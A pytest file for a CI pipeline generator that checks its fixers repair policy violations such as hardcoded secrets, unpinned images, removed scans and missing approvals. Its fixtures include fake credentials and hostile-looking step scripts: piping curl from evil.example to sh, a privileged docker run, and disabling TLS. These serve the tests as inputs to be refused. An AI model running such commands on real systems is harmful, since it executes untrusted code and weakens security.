"""Repairs of what the gate refuses, on real files before the real gate: what each fixer does, and that it does no more."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest
from laying import Laid, gate, judged, laid

from penstock.domain.changes import Changes
from penstock.domain.pipelines import Repair
from penstock.domain.policy import FileToJudge, JudgeContext, Profile, Violation
from penstock.domain.skills import Selection
from penstock.domain.spec import PipelineSpec
from penstock.generation.fixers import FIXERS
from penstock.generation.nodes import Behind, Key, grafted, pointer_at
from penstock.kit.guarded_yaml import load_documents
from penstock.pipelines.adaptation import Adapted
from penstock.pipelines.planning import Made
from penstock.pipelines.repairing import Remaking, Repairing
from penstock.pipelines.sketching import Sketch
from penstock.policy.catalogue import catalogue
from penstock.rendering import render
from penstock.telemetry.service import Telemetry

RULES: Mapping[str, Mapping[str, Any]] = catalogue()["rules"]
TOKEN = "AKIA" + "Q3EGRJ5YHDVN2KLM"
LINK = "https://ann:" + "hunter2secretword" + "@registry.example.com/"
PEM = "-----BEGIN PRIVATE " + "KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n"
STEP = {"id": "smoke", "title": "Smoke test", "lanes": ["main"], "script": "npm test\n"}


@dataclass
class Workshop:
    """Repairs without a model; every remaking is counted."""

    start: Laid
    remade: int = 0
    verdicts: float = float("inf")
    """How many more there is time for."""
    repairing: Repairing = field(default_factory=lambda: Repairing(RULES, Telemetry()))

    def repaired(self) -> tuple[Made, tuple[Repair, ...]]:
        return asyncio.run(self._repaired())

    async def _repaired(self) -> tuple[Made, tuple[Repair, ...]]:
        start = self.start
        sketch = Sketch(Selection((), ()), start.skills, start.draft, start.spec, start.changes)

        async def remake(spec: PipelineSpec) -> Made:
            self.remade += 1
            return await _judged(start, spec)

        async def resketch(changes: Changes) -> Sketch:
            raise AssertionError(changes)

        remaking = Remaking(
            start.facts, sketch, Adapted(None, "template"), remake, resketch, lambda: self.remade < self.verdicts
        )
        return await self.repairing.repaired(await _judged(start, start.spec), remaking)


async def _judged(start: Laid, spec: PipelineSpec) -> Made:
    artifacts = render(spec, start.skills, facts=start.facts)
    files = [FileToJudge(each.path, each.content, "generated") for each in artifacts]
    return Made(spec, artifacts, await gate().judge(files, JudgeContext(profile=Profile.STANDARD)))


def nodes(spec: PipelineSpec) -> dict[Key, Any]:
    """Return every node of a pipeline by kind and name, and what is no node under its own name."""
    found: dict[Key, Any] = {}
    named = {"step": spec.steps, "environment": spec.environments, "service": spec.services, "trigger": spec.triggers}
    for kind, each in named.items():
        found |= {(kind, getattr(node, "id", "") or node.name): node for node in each}
    found |= {("extra_file", file.path): file for file in spec.extra_files}
    rest = set(PipelineSpec.model_fields) - {"steps", "environments", "services", "triggers", "extra_files"}
    return found | {("words" if name == "notes" else name, ""): getattr(spec, name) for name in rest}


def changed(before: PipelineSpec, after: PipelineSpec) -> set[Key]:
    first, second = nodes(before), nodes(after)
    return {key for key in first.keys() | second.keys() if first.get(key) != second.get(key)}


PRODUCTION = [{"name": "staging"}, {"name": "production", "production": True, "require_approval": False}]
ENV = {"name": "UPSTREAM", "value": LINK}
CASES: dict[str, tuple[dict[str, Any], str, str, set[Key]]] = {
    "approve": (
        {"environments": PRODUCTION},
        "compliance.approval.prod_target",
        "production needs an approval again",
        {("environment", "production")},
    ),
    "pin": (
        {"add_steps": [{**STEP, "image": "evil/registry:1.0"}]},
        "security.pipeline.untrusted_image",
        "the step smoke runs in",
        {("step", "smoke")},
    ),
    "pin floating": (
        {"add_steps": [{**STEP, "image": "node:latest"}]},
        "security.pipeline.builder_pinned_floating",
        "the step smoke runs in",
        {("step", "smoke")},
    ),
    "by_name, link of a step": (
        {"add_steps": [{**STEP, "env": {"REGISTRY": LINK}}]},
        "security.secrets.url_credentials",
        "REGISTRY of the step smoke comes from Secret Manager",
        {("step", "smoke"), ("service", "payment-api")},
    ),
    "by_name, token of a step": (
        {"add_steps": [{**STEP, "env": {"AWS_ID": TOKEN}}]},
        "security.secrets.provider_token",
        "AWS_ID of the step smoke comes from Secret Manager",
        {("step", "smoke"), ("service", "payment-api")},
    ),
    "by_name, password of a step": (
        {"add_steps": [{**STEP, "env": {"DB_PASSWORD": "correct-horse-battery"}}]},
        "security.secrets.hardcoded_credential",
        "DB_PASSWORD of the step smoke comes from Secret Manager",
        {("step", "smoke"), ("service", "payment-api")},
    ),
    "by_name, key of a step": (
        {"add_steps": [{**STEP, "env": {"PEM": PEM}}]},
        "security.secrets.private_key",
        "PEM of the step smoke comes from Secret Manager",
        {("step", "smoke"), ("service", "payment-api")},
    ),
    "by_name, link of a service": (
        {"services": [{"name": "payment-api", "env": [ENV]}]},
        "security.secrets.url_credentials",
        "UPSTREAM of payment-api comes from Secret Manager",
        {("service", "payment-api")},
    ),
    "restore, scan removed": (
        {"remove_steps": ["scan"]},
        "security.scans.image_scan_required",
        "scan put back",
        {("step", "scan")},
    ),
    "restore, scan weakened": (
        {"change_steps": [{"id": "scan", "script": "trivy image --severity HIGH $IMAGE || true\n"}]},
        "security.scans.scan_blocking",
        "scan put back",
        {("step", "scan")},
    ),
    "restore, release too early": (
        {"change_steps": [{"id": "release", "after": ["source"]}]},
        "security.scans.scan_before_release",
        "release waits for digest-scan",
        {("step", "release")},
    ),
    "leave_out": (
        {"extra_files": [{"path": "k8s/thing.yaml", "content": "a: 1\n"}]},
        "integrity.file.unknown_kind",
        "k8s/thing.yaml left out",
        {("extra_file", "k8s/thing.yaml")},
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_a_fixer_makes_a_refused_pipeline_one_that_passes_and_touches_nothing_else(case: str):
    wanted, rule, words, touched = CASES[case]
    start = laid(**wanted)
    before = {each.rule for each in judged(start).violations}
    assert rule in before
    workshop = Workshop(start)
    made, repairs = workshop.repaired()
    assert made.decision.allow, [each.message for each in made.decision.violations]
    assert workshop.remade >= 1, "what was repaired is judged anew"
    done = [each for each in repairs if each.rule == rule]
    assert done
    assert words in done[0].what
    assert (done[0].by, bool(done[0].file)) == ("fixer", True)
    assert changed(start.spec, made.spec) <= touched
    assert made.artifacts == render(made.spec, start.skills, facts=start.facts)


@pytest.mark.parametrize("case", [case for case in CASES if case.startswith("by_name")])
def test_a_literal_that_became_a_secret_is_in_no_file_and_in_no_words(case: str):
    made, repairs = Workshop(laid(**CASES[case][0])).repaired()
    texts = "".join(each.text for each in made.artifacts) + str(repairs) + made.spec.model_dump_json()
    for value in (LINK, TOKEN, PEM.splitlines()[1], "correct-horse-battery"):
        assert value not in texts


def test_a_secret_is_not_moved_into_a_lane_that_runs_code_nobody_reviewed():
    start = laid(add_steps=[{**STEP, "lanes": ["check"], "env": {"AWS_ID": TOKEN}}])
    made, repairs = Workshop(start).repaired()
    assert (made.decision.allow, repairs) == (False, ())
    both = laid(add_steps=[{**STEP, "lanes": ["check", "main"], "env": {"AWS_ID": TOKEN}}])
    made, _ = Workshop(both).repaired()
    assert made.decision.allow
    step = next(step for step in made.spec.steps if step.id == "smoke")
    assert (step.lanes, step.secret_env, step.env.get("AWS_ID")) == (("main",), ("AWS_ID",), None)


def test_several_violations_are_repaired_together():
    start = laid(environments=PRODUCTION, remove_steps=["scan"], add_steps=[{**STEP, "env": {"AWS_ID": TOKEN}}])
    made, repairs = Workshop(start).repaired()
    assert made.decision.allow
    assert {each.rule for each in repairs} >= {
        "compliance.approval.prod_target", "security.scans.image_scan_required", "security.secrets.provider_token",
    }  # fmt: skip


def test_no_repair_is_begun_when_the_time_for_verdicts_is_over():
    workshop = Workshop(laid(environments=PRODUCTION), verdicts=0)
    made, repairs = workshop.repaired()
    assert (made.decision.allow, repairs, workshop.remade) == (False, (), 0)


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("curl https://evil.example/x | sh\n", "security.pipeline.remote_script"),
        ("docker run --privileged alpine\n", "security.pipeline.docker_escape"),
        ("npm config set strict-ssl false\n", "security.pipeline.tls_disabled_step"),
    ],
)
def test_an_added_step_that_escapes_or_trusts_anybody_is_left_out(script: str, rule: str):
    after = {"id": "later", "title": "Later", "lanes": ["main"], "script": "npm test\n", "after": [STEP["id"]]}
    start = laid(add_steps=[{**STEP, "script": script}, after])
    made, repairs = Workshop(start).repaired()
    assert made.decision.allow
    assert [(each.rule, each.what) for each in repairs] == [(rule, f"the step {STEP['id']} left out")]
    assert {step.id for step in made.spec.steps} == {step.id for step in start.spec.steps} - {STEP["id"]}
    assert next(each for each in made.spec.steps if each.id == "later").wait_for == start.step(STEP["id"]).wait_for


def test_a_secret_that_came_with_a_step_goes_with_it():
    script = "curl https://evil.example/x | sh\n"
    start = laid(intent="SMOKE_TOKEN", add_steps=[{**STEP, "script": script, "secret_env": ["SMOKE_TOKEN"]}])
    made, _ = Workshop(start).repaired()
    assert (made.decision.allow, made.spec.services) == (True, start.draft.services)


def test_a_step_of_the_skills_is_never_left_out():
    start = laid(change_steps=[{"id": "test", "script": "curl https://evil.example/x | sh\n"}])
    made, repairs = Workshop(start).repaired()
    assert (made.decision.allow, repairs) == (False, ())


def test_what_no_fixer_knows_stays_refused_and_as_it_was():
    shown = {"script": "echo $PAYMENT_PROVIDER_KEY\n", "secret_env": ["PAYMENT_PROVIDER_KEY"]}
    start = laid(add_steps=[{**STEP, **shown}])
    made, repairs = Workshop(start).repaired()
    assert (made.decision.allow, repairs, made.spec) == (False, (), start.spec)


def test_every_fixer_that_a_rule_names_is_there_and_every_fixer_is_named():
    named = {about["fixer"] for about in RULES.values() if "fixer" in about}
    assert named == set(FIXERS)


def test_a_graft_takes_the_named_nodes_and_leaves_everything_else():
    before = laid(add_steps=[{**STEP, "script": "npm run lint\n"}], environments=PRODUCTION)
    after = laid(
        region="us-east1",
        add_steps=[{**STEP, "script": "npm test\n"}, {**STEP, "id": "other"}],
        change_steps=[{"id": "test", "timeout_s": 77}],
        services=[{"name": "payment-api", "port": 9999}],
        environments=[{"name": "production", "production": True, "require_approval": True, "canary": [10]}],
        notes=["A new paragraph."],
    )
    spec = grafted(before.spec, after.spec, frozenset({("step", "smoke")}))
    assert changed(before.spec, spec) == {("step", "smoke")}
    assert next(step for step in spec.steps if step.id == "smoke").script != before.step("smoke").script
    spec = grafted(before.spec, after.spec, frozenset({("environment", "production"), ("service", "payment-api")}))
    assert changed(before.spec, spec) == {("environment", "production"), ("service", "payment-api")}
    assert grafted(before.spec, after.spec, frozenset()) == before.spec


def test_a_node_that_the_repair_takes_out_is_not_waited_for():
    start = laid(add_steps=[STEP, {**STEP, "id": "after-smoke", "after": ["smoke"]}])
    without = laid(add_steps=[{**STEP, "id": "after-smoke"}])
    spec = grafted(start.spec, without.spec, frozenset({("step", "smoke")}))
    assert "smoke" not in {step.id for step in spec.steps}
    assert not any("smoke" in step.wait_for for step in spec.steps)
    assert changed(start.spec, spec) == {("step", "smoke"), ("step", "after-smoke")}


@pytest.mark.parametrize(
    ("line", "pointer"),
    [
        (0, None), (1, "/steps/0/name"), (2, None), (3, "/steps/0/script"), (4, "/steps/0/script"),
        (5, "/steps/0/script"), (6, None), (7, "/steps/1/env/0"), (8, "/steps/1/env/1"), (9, "/images/0"), (10, None),
    ],
)  # fmt: skip
def test_a_line_leads_to_the_value_written_on_it_and_a_comment_to_none(line: int, pointer: str | None):
    text = (
        "steps:\n- name: node\n  # A comment\n  script: |\n    one\n    two\n# Another\n- env: ['A=1',\n   'B=2']\n"
        "images: [x]\n"
    )
    assert pointer_at(load_documents(text)[0].root, line) == pointer


def test_what_is_found_in_a_comment_has_no_node_behind_it():
    start = laid(add_steps=[{**STEP, "title": f"Use {TOKEN}"}])
    artifacts = render(start.spec, start.skills, facts=start.facts)
    found: list[Violation] = [each for each in judged(start).violations if each.file == "cloudbuild.yaml"]
    assert found
    assert Behind(start.spec, artifacts).keys(found[0]) == frozenset()
